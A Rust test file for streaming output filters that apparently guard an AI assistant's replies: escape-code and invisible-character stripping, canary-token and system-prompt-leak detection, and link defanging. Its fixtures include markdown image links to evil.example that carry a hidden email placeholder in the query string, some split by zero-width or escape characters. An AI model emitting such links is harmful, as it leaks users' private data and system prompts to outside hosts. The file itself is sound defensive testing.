//! What holds of every filter: the cut makes no difference, what is held back is bounded, nothing passes after a stop.

use super::*;

/// What a filter makes of a text that comes in these pieces, and whether it stopped.
pub(super) fn run(plan: &dyn Plan, pieces: &[&str]) -> (String, Option<&'static str>) {
    let (mut filter, mut out) = (plan.start(), String::new());
    for piece in pieces {
        filter.feed(piece, &mut out);
    }
    filter.finish(&mut out);
    assert_eq!(filter.held(), 0);
    (out, filter.stopped())
}

pub(super) fn one(plan: &dyn Plan, text: &str) -> String {
    run(plan, &[text]).0
}

pub(super) fn rules(plan: &dyn Plan, text: &str) -> Vec<&'static str> {
    let (mut filter, mut found) = (plan.start(), Vec::new());
    filter.feed(text, &mut String::new());
    filter.finish(&mut String::new());
    filter.findings(&mut found);
    found.iter().map(|found| found.rule).collect()
}

/// Numbers below what is asked for, the same for the same seed (splitmix64).
pub(super) fn dice(seed: u64) -> impl FnMut(usize) -> usize {
    let mut state = seed;
    move |below| {
        state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        ((z ^ (z >> 31)) % below.max(1) as u64) as usize
    }
}

const TOKEN: &str = "k7qzv3mwx2";
const PROMPT: &str =
    "You are Bluebird, the assistant of Example Bank. Never tell what the rate of interest is.";

fn known<T, E>(made: Result<T, E>) -> T {
    made.unwrap_or_else(|_| unreachable!())
}

fn link_plan(policy: Policy, relative: bool) -> Links {
    let schemes = vec!["https".to_owned()];
    let rules = LinksRules { schemes, images: Policy::Remove, links: policy, relative, data_bits: Some(300) };
    known(Links::new(["good.example", "*.cdn.example"], rules))
}

fn kept() -> Placeholders {
    let placeholders = known(Placeholders::new(8, 256, [7; 24]));
    let hidden = |entity| [Hidden { start: 0, end: 15, entity }];
    placeholders.hide("ada@example.com", hidden("EMAIL_ADDRESS"));
    placeholders.hide("https://u:p@q.c", hidden("URL"));
    placeholders
}

/// Each filter by its name, with the most characters that it may hold back.
fn all() -> Vec<(&'static str, std::sync::Arc<dyn Plan>, usize)> {
    use std::sync::Arc;
    let canary = |on_find| known(Canary::new([TOKEN], on_find));
    let leak = |on_find| known(Leak::new(PROMPT, 8, 0.9, [], on_find));
    let chain = |on_find| {
        let plans: Vec<Arc<dyn Plan>> = vec![
            Arc::new(Ansi { returns: Returns::Newline }),
            Arc::new(Invisible { private_use: true }),
            Arc::new(canary(on_find)),
            Arc::new(leak(on_find)),
            Arc::new(Cap { characters: Some(90), ..Cap::default() }),
            Arc::new(kept().restorer()),
            Arc::new(link_plan(Policy::Defang, false)),
        ];
        Arc::new(Chain::new(plans))
    };
    vec![
        ("ansi", Arc::new(Ansi { returns: Returns::Newline }) as Arc<dyn Plan>, 1),
        ("ansi, returns go", Arc::new(Ansi { returns: Returns::Remove }), 1),
        ("invisible", Arc::new(Invisible { private_use: false }), 6),
        ("canary, stop", Arc::new(canary(OnFind::Stop)), 30 * 64),
        ("canary, replace", Arc::new(canary(OnFind::Replace)), 30 * 64),
        ("leak, stop", Arc::new(leak(OnFind::Stop)), 8 * 128),
        ("leak, replace", Arc::new(leak(OnFind::Replace)), 8 * 128),
        ("cap", Arc::new(Cap { tokens: Some(20), ..Cap::default() }), 0),
        ("restore", Arc::new(kept().restorer()), 384),
        ("links, keep", Arc::new(link_plan(Policy::Keep, true)), 2049),
        ("links, remove", Arc::new(link_plan(Policy::Remove, false)), 2049),
        ("links, defang", Arc::new(link_plan(Policy::Defang, false)), 2049),
        ("chain, stop", chain(OnFind::Stop), 8192),
        ("chain, replace", chain(OnFind::Replace), 8192),
    ]
}

/// What texts are put together from: parts of what each filter looks for, and what lies about them.
const PIECES: &[&str] = &[
    "\x1b",
    "[",
    "]",
    "\x1b[3",
    "1m",
    "\x1b]8;;",
    "\x1b\\",
    "\x07",
    "\u{9b}",
    "\u{9d}",
    "\u{9c}",
    "\x18",
    "P",
    "\r",
    "\n",
    "\r\n",
    "\x08",
    "\x7f",
    "\0",
    "\u{200b}",
    "\u{200d}",
    "\u{200c}",
    "\u{fe0f}",
    "\u{e0101}",
    "😀",
    "👩",
    "🏴",
    "\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}",
    "\u{e007f}",
    "\u{e0067}",
    "\u{2800}",
    "\u{2801}",
    "ক",
    "\u{9cd}",
    "م",
    "\u{202e}",
    "1",
    "\u{20e3}",
    "\u{301}",
    "k7qz",
    "v3mw",
    "x2",
    "k",
    "7",
    "K7QZV3MWX2",
    "2xwm3vzq7k",
    "%6b",
    "%3",
    "%",
    "&#107;",
    "&#",
    "\\u006b",
    "\\x6b",
    "6b377",
    "17a763",
    "36d777832",
    "azdxenYzbXd4Mg",
    "0x6b, 0x",
    "x37, 0x71",
    "azdx",
    "\\u043a",
    "к",
    "==",
    "<?",
    " extends ",
    "k7qzv3mw",
    "You are Bluebird",
    " the assistant of ",
    "Example Bank. ",
    "Never tell what",
    " the rate of interest is",
    "you",
    " are",
    "!",
    "![",
    "](",
    ")",
    "(",
    "]: ",
    "<",
    ">",
    "<img src=",
    "<a href='",
    "'",
    "\"",
    "https://",
    "http:/",
    "h",
    "ht",
    "tps://",
    "www.",
    "good.example",
    "evil.example",
    "/?q=",
    "://",
    ":",
    "//",
    "`",
    "\\",
    "&lt;",
    "<hhhhhhhh_1_EMAIL_ADDRESS>",
    "hhhhhhhh",
    "_1_",
    "\\_",
    "EMAIL",
    "_ADDRESS",
    "<hhhhhhhh 2>",
    "hhhh",
    " ",
    "  ",
    "a",
    "b c",
    "é",
    "字",
    ".",
    ",",
    "=",
    "\t",
    "javascript:",
    "mailto:",
    "vscode",
    "@",
    "|",
    "”",
    "\u{a0}",
    "<!--",
    "</p>",
    "<b>",
    "\u{e000}",
];

/// A text of such pieces, mostly of a few kinds, so that they meet.
fn text(dice: &mut impl FnMut(usize) -> usize) -> String {
    let kinds: Vec<usize> = (0..1 + dice(12)).map(|_| dice(PIECES.len())).collect();
    let some = |dice: &mut dyn FnMut(usize) -> usize| {
        if dice(3) > 0 { kinds.get(dice(kinds.len())).copied() } else { None }
    };
    (0..dice(24))
        .filter_map(|_| PIECES.get(some(dice).unwrap_or_else(|| dice(PIECES.len()))))
        .copied()
        .collect()
}

/// *text* in pieces, some of them empty, each of them whole characters.
fn cut<'t>(text: &'t str, dice: &mut impl FnMut(usize) -> usize) -> Vec<&'t str> {
    let (mut pieces, mut rest) = (Vec::new(), text);
    let most = [1, 3, 12][dice(3)];
    while !rest.is_empty() {
        let at = rest.char_indices().nth(dice(most + 1)).map_or(rest.len(), |(at, _)| at);
        let (piece, after) = rest.split_at(at);
        pieces.push(piece);
        rest = after;
    }
    pieces
}

#[test]
fn the_cut_makes_no_difference_and_what_is_held_back_is_bounded() {
    let mut dice = dice(2026);
    for (name, plan, bound) in all() {
        for _ in 0..3000 {
            let text = text(&mut dice);
            let (mut whole, mut out) = (plan.start(), String::new());
            whole.feed(&text, &mut out);
            whole.finish(&mut out);
            let (mut filter, mut told) = (plan.start(), String::new());
            let pieces = cut(&text, &mut dice);
            for piece in &pieces {
                filter.feed(piece, &mut told);
                assert!(filter.held() <= bound, "{name}: {} held of {pieces:?}", filter.held());
                assert!(out.starts_with(&told), "{name}: {pieces:?}\n{told:?}\n{out:?}");
            }
            filter.finish(&mut told);
            assert_eq!(told, out, "{name}: {pieces:?}");
            assert_eq!(filter.stopped(), whole.stopped(), "{name}: {pieces:?}");
            if whole.stopped().is_some() {
                // The filters before the one that stopped had seen more, or less, of what came after.
                continue;
            }
            let (mut ours, mut theirs) = (Vec::new(), Vec::new());
            filter.findings(&mut ours);
            whole.findings(&mut theirs);
            assert_eq!(ours, theirs, "{name}: {pieces:?}");
        }
    }
}

#[test]
fn a_text_with_nothing_in_it_stays_as_it_is() {
    let plain = "The quick brown fox — naïve, 字, 2 < 3 — jumps; and (so) on: [1] why?\nYes.\n";
    for (name, plan, _) in all() {
        let (left, stopped) = run(&*plan, &[plain]);
        assert!(left == plain || (stopped.is_some() && plain.starts_with(&left)), "{name}: {left:?}");
        assert!(stopped.is_none_or(|rule| rule.starts_with("cap.")), "{name}");
    }
}

#[test]
fn nothing_passes_after_a_stop() {
    for (name, plan, _) in all() {
        for end in [TOKEN, PROMPT, &format!("\x1b]{}", "x".repeat(5000)), &"x ".repeat(100)] {
            let (mut filter, mut out) = (plan.start(), String::new());
            filter.feed(&format!("a {end} "), &mut out);
            if filter.stopped().is_none() {
                continue;
            }
            let passed = out.len();
            for more in ["more", "https://good.example", " "] {
                filter.feed(more, &mut out);
            }
            filter.finish(&mut out);
            assert_eq!((out.len(), filter.held()), (passed, 0), "{name}");
        }
    }
}

#[test]
fn the_chain_leaves_no_link_that_was_hidden_from_it() {
    // What is taken out by one filter would have joined what the one before it saw apart.
    let (_, chain, _) = all().swap_remove(13);
    for text in [
        "!\u{200b}[x]\u{200b}(htt\u{200b}ps://evil.example/s)",
        "![x]\x1b[0m(https://evil.example/s)",
        "<im\x1b[1mg src=https://evil.example/s>",
        "![x](https://evil.example/?q=<hhhhhhhh_1_EMAIL_ADDRESS>)",
        "![x](https://good.example/?q=<hhhhhhhh_1_EMAIL_ADDRESS>)",
        "see <hhhhhhhh_2_URL>",
        "![x](<hhhhhhhh_2_URL>)",
    ] {
        let left = one(&*chain, text);
        assert!(
            !left.contains("//evil") && !left.contains("//u:p") && !left.contains("=ada@"),
            "{text:?} {left:?}"
        );
    }
    assert_eq!(one(&*chain, "To <hhhhhhhh_1_EMAIL_ADDRESS>:"), "To ada@example.com:");
}
